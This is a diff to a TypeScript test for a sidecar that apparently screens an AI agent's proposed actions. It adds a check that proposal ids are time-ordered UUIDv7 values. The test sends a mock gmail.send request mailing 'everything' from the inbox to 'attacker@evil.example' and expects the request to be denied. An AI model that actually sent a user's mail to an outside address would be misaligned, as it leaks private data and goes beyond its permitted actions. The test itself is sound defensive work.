@@ -97,7 +97,10 @@ describe('sidecar over real sockets (draft_assist)', () => {
       body: { action: 'gmail.send', params: { to: ['attacker@evil.example'], subject: 'inbox', body: 'everything' } },
     });
     expect(r.status).toBe(403);
-    const p = (r.json as { proposal: { status: string; decision: { effect: string; rules: string[] } } }).proposal;
+    const p = (r.json as { proposal: { id: string; status: string; decision: { effect: string; rules: string[] } } })
+      .proposal;
+    // Time-ordered (UUID version 7): the state's primary key index grows at its end instead of at random pages.
+    expect(p.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
     expect(p.status).toBe('denied');
     expect(p.decision.effect).toBe('deny');
     expect(p.decision.rules).toContain('commands.gmail.send');
